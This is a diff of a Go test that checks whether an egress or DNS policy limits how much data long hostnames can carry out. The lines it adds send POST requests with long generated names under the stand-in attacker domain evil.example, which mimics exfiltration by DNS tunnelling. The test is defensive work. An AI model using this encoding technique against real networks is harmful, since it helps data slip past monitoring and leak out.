@@ -525,6 +525,9 @@ func TestNamesDoNotCarryMuch(t *testing.T) {
 		l.ask(fmt.Sprintf("%s%d.evil.example", strings.Repeat("x", 50), i), dnsmessage.TypeA, 0)
 	}
 	l.event(func(e Event) bool { return e.Rule == RuleSpelling && !e.Allowed })
+	for i := range 50 {
+		l.get("POST", fmt.Sprintf("http://%s/?form=destination=%s%d.evil.example", PolicyHost, strings.Repeat("y", 50), i), "")
+	}
 	mu.Lock()
 	if carried > spellingBurst+spellingRate*60 {
 		t.Errorf("the names have %d bytes", carried)
